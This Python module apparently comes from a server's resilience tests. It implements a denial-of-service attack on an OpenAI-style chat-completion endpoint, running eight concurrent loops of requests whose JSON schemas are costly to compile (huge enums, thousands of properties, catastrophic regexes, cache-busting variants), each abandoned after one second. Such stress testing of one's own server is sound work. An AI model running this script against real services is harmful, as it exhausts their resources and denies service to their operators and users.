"""The attack with JSON schemas that take long to compile, whose callers leave at once."""

from __future__ import annotations

import asyncio
from itertools import cycle
from typing import Any

import aiohttp

_MODEL = "smollm2-135m-instruct"
_SECONDS = 1.0
"""After which a caller leaves."""
_AT_ONCE = 8


def _texts(number: int, first: int) -> dict[str, Any]:
    """A schema within the bounds, which no engine has compiled yet if `first` is a new one."""
    lengths = {f"p{n}": {"type": "string", "maxLength": 150 + first * number + n} for n in range(number)}
    return {"type": "object", "properties": lengths, "required": list(lengths), "additionalProperties": False}


_REFUSED: tuple[dict[str, Any], ...] = (
    {"type": "object", "properties": {f"p{n}": {"type": "string"} for n in range(5000)}},
    {"enum": [f"value {n}" for n in range(700_000)]},
    {"type": "string", "pattern": "(a|b)" * 10_600},
    {"type": "string", "pattern": "(a?){5000}"},
    _texts(20, 0),
)


async def attack(base_url: str, key: str) -> None:
    """Ask for answers that fit such schemas, eight at once, until cancelled."""
    headers = {"authorization": f"Bearer {key}"}
    async with aiohttp.ClientSession(headers=headers) as session, asyncio.TaskGroup() as tasks:
        for place in range(_AT_ONCE):
            tasks.create_task(_ask(session, f"{base_url}/chat/completions", place))


async def _ask(session: aiohttp.ClientSession, url: str, place: int) -> None:
    for turn, refused in enumerate(cycle(_REFUSED)):
        schema = _texts(8, turn * _AT_ONCE + place) if turn % 2 else refused
        json_schema = {"name": "answer", "schema": schema}
        body = {
            "model": _MODEL,
            "messages": [{"role": "user", "content": "Soup?"}],
            "response_format": {"type": "json_schema", "json_schema": json_schema},
        }
        try:
            async with session.post(url, json=body, timeout=aiohttp.ClientTimeout(_SECONDS)) as answer:
                await answer.read()
        except (aiohttp.ClientError, TimeoutError):
            await asyncio.sleep(0)
